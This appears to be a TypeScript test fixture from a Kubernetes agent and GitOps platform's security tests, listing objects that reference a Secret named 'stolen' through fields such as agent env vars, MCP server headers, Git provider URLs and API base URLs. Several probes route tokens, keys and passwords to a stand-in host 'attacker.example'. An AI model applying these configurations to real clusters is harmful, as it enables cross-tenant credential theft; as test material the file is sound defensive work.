import type { AnyObject } from './tenants.ts'

const agents = 'agents.proompteng.ai/v1alpha1'
const gitops = 'gitops.proompteng.ai/v1alpha1'

/** An age public key whose identity is unknown. */
const recipient = 'age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p'

interface SecretProbe {
  readonly because: string
  /** The object, which refers to the Secret `stolen`. */
  readonly object: (namespace: string) => AnyObject
  /** A merge patch of the spec that replaces `stolen` by something that the attacker chose. */
  readonly redirect: object
  /** Permissions that are needed besides get on the Secret. */
  readonly alsoNeeds?: 'list secrets'
}

function named(apiVersion: string, kind: string, spec: object) {
  return (namespace: string) => ({
    ...{ apiVersion, kind, spec },
    metadata: { name: 'probe', namespace },
  })
}

const secretRef = { name: 'stolen' }
const own = { name: 'own' }

/** Every field by which the platform uses a Secret for its users. */
export const secretProbes: readonly SecretProbe[] = [
  {
    because: 'every run of an agent gets it as variables',
    redirect: { defaults: { secrets: [own] } },
    object: named(agents, 'Agent', {
      providerRef: { name: 'program-of-attacker' },
      defaults: { secrets: [secretRef] },
    }),
  },
  {
    because: 'every run of an agent pulls its image with it',
    redirect: { defaults: { runtime: { imagePullSecrets: null } } },
    object: named(agents, 'Agent', {
      providerRef: { name: 'program-of-attacker' },
      defaults: { runtime: { imagePullSecrets: [secretRef] } },
    }),
  },
  {
    because: 'a program that the agent starts as an MCP server gets it as a variable',
    redirect: { mcpServers: [{ name: 'of-attacker', command: 'sh' }] },
    object: named(agents, 'Agent', {
      providerRef: { name: 'codex' },
      mcpServers: [
        {
          name: 'of-attacker',
          command: 'sh',
          env: [{ name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'stolen', key: 'token' } } }],
        },
      ],
    }),
  },
  {
    because: 'it is sent to an MCP server as a header',
    redirect: { mcpServers: null },
    object: named(agents, 'Agent', {
      providerRef: { name: 'codex' },
      mcpServers: [
        { name: 'first', command: 'sh', env: [{ name: 'A', value: 'b' }] },
        {
          name: 'of-attacker',
          url: 'https://attacker.example/mcp',
          headers: [
            { name: 'Accept-Language', value: 'en' },
            {
              name: 'Authorization',
              valueFrom: { secretKeyRef: { name: 'stolen', key: 'token' } },
            },
          ],
        },
      ],
    }),
  },
  {
    because: 'the password is sent to the URL',
    redirect: { secretRef: own, allowedBranches: ['*'] },
    object: named(gitops, 'GitProvider', {
      url: 'https://attacker.example/repository.git',
      allowedBranches: ['main'],
      secretRef,
    }),
  },
  {
    because: 'commits are signed as another user',
    redirect: { commit: { signing: { secretRef: own } } },
    object: named(gitops, 'GitProvider', {
      url: 'https://attacker.example/repository.git',
      allowedBranches: ['main'],
      commit: { signing: { secretRef } },
    }),
  },
  {
    because: 'a Secret is read as host keys',
    redirect: { knownHostsRef: { kind: 'ConfigMap', name: 'keys-of-attacker' } },
    object: named(gitops, 'GitProvider', {
      url: 'ssh://git@attacker.example/repository.git',
      allowedBranches: ['main'],
      knownHostsRef: { kind: 'Secret', ...secretRef },
    }),
  },
  {
    because: 'a key that the attacker knows becomes a recipient',
    redirect: { encryption: { secretRef: own } },
    alsoNeeds: 'list secrets',
    object: named(gitops, 'GitTarget', {
      providerRef: { name: 'repository' },
      branch: 'main',
      path: 'cluster',
      encryption: { secretRef },
    }),
  },
  {
    because: 'a Secret is read as a fingerprint key',
    redirect: { encryption: { fingerprintRef: null } },
    alsoNeeds: 'list secrets',
    object: named(gitops, 'GitTarget', {
      providerRef: { name: 'repository' },
      branch: 'main',
      path: 'cluster',
      encryption: { recipients: [recipient], fingerprintRef: secretRef },
    }),
  },
  {
    because: 'the token is sent to the API',
    redirect: { cloneBaseUrl: 'https://attacker.example', auth: { token: { secretRef: own } } },
    object: named(agents, 'VersionControlProvider', {
      provider: 'github',
      apiBaseUrl: 'https://attacker.example/api',
      auth: { method: 'token', token: { secretRef } },
    }),
  },
  {
    because: 'a token signed with the key of the app is sent to the API',
    redirect: { auth: { method: 'token', app: null, token: { secretRef: own } } },
    object: named(agents, 'VersionControlProvider', {
      provider: 'github',
      apiBaseUrl: 'https://attacker.example/api',
      auth: {
        method: 'app',
        app: { appId: 1, installationId: 2, privateKeySecretRef: secretRef },
      },
    }),
  },
  {
    because: 'runs authenticate with the key',
    redirect: { provider: 'github', auth: null },
    object: named(agents, 'VersionControlProvider', {
      provider: 'generic',
      sshHost: 'attacker.example',
      auth: { method: 'ssh', ssh: { privateKeySecretRef: secretRef } },
    }),
  },
  {
    because: 'runs get the connection string',
    redirect: { connection: { secretRef: own } },
    object: named(agents, 'Memory', { type: 'postgres', connection: { secretRef } }),
  },
  {
    because: 'deliveries signed with it are accepted',
    redirect: { auth: { secretRef: own } },
    object: named(agents, 'ImplementationSource', { provider: 'github', auth: { secretRef } }),
  },
  {
    because: 'the API key of a source is sent to its URL',
    redirect: { apiBaseUrl: 'https://attacker.example' },
    object: named(agents, 'ImplementationSource', {
      provider: 'linear',
      auth: { secretRef, apiKeySecretRef: secretRef },
    }),
  },
  {
    because: 'runs of the tool get it as a variable, after others that name no Secret',
    redirect: {
      env: [{ name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'own', key: 'token' } } }],
    },
    object: named('tools.proompteng.ai/v1alpha1', 'Tool', {
      image: 'attacker.example/send',
      command: ['send'],
      env: [
        { name: 'TO', value: 'attacker' },
        { name: 'TOKEN', valueFrom: { secretKeyRef: { ...secretRef, key: 'token' } } },
      ],
    }),
  },
  {
    because: 'runs of the agent get it as their prompt',
    redirect: { defaults: { systemPromptRef: { kind: 'ConfigMap', name: 'of-attacker' } } },
    object: (namespace) => agent(namespace, { kind: 'Secret', ...secretRef, key: 'token' }),
  },
]

export function agent(namespace: string, systemPromptRef: object): AnyObject {
  const spec = { providerRef: { name: 'honest' }, defaults: { systemPromptRef } }
  return named(agents, 'Agent', spec)(namespace)
}

export function ownRecipient(namespace: string): AnyObject {
  return named(gitops, 'GitTarget', {
    providerRef: { name: 'repository' },
    branch: 'main',
    path: 'cluster',
    encryption: { recipients: [recipient] },
  })(namespace)
}

export function watchRule(namespace: string, ...rules: readonly object[]): AnyObject {
  return named(gitops, 'WatchRule', { targetRef: { name: 'mirror' }, rules })(namespace)
}

export function clusterWatchRule(...rules: readonly object[]): AnyObject {
  return {
    apiVersion: gitops,
    kind: 'ClusterWatchRule',
    metadata: { name: 'probe' },
    spec: { targetRef: { namespace: 'default', name: 'mirror' }, rules },
  }
}

export function agentRun(namespace: string, annotations?: object): AnyObject {
  return {
    apiVersion: agents,
    kind: 'AgentRun',
    metadata: { name: 'probe', namespace, ...(annotations && { annotations }) },
    spec: {
      agentRef: { name: 'agent' },
      implementation: { inline: { text: 'work' } },
      runtime: { type: 'job' },
    },
  }
}
